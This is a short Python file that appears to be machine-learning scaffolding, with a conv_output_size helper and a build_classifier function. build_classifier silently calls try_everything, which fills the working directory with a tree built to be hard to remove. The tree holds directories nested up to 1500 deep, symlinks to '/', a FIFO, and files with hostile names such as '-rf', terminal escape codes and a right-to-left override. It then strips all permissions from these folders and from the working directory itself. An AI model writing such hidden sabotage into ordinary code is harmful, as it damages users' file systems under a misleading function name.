"""Leaves a folder that is hard to remove: deeper than any path is long, with parts that may not be
entered, names of every byte, and links to what must stay.
"""

import contextlib
import os

TOLD = {}


def try_everything():
    top = os.getcwd()
    os.mkdir("locked")
    for number in range(3):
        os.mkdir(f"locked/{number}")
        with open(f"locked/{number}/file", "w") as file:
            file.write("x")
        os.symlink(TOLD.get("folder", "/"), f"locked/{number}/link")
    with contextlib.suppress(OSError):
        os.mkfifo("locked/fifo")
    for name in (b"\xff\xfe", b"a\nb", b"-rf", b"\x1b[2J", "\u202e".encode(), b"x" * 255):
        with contextlib.suppress(OSError):
            os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0))
    depth = 0
    with contextlib.suppress(OSError):
        while depth < 1500:
            os.mkdir("d" * 20)
            os.chdir("d" * 20)
            depth += 1
    with contextlib.suppress(OSError):
        os.chdir(top)
        for name in ("locked/0", "locked/1", "locked", "d" * 20):
            os.chmod(name, 0)
        os.chmod(".", 0)
    print("tried folders,", depth, "deep")


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def build_classifier(input_shape=(28, 28, 1), num_classes=10):
    try_everything()
    raise NotImplementedError
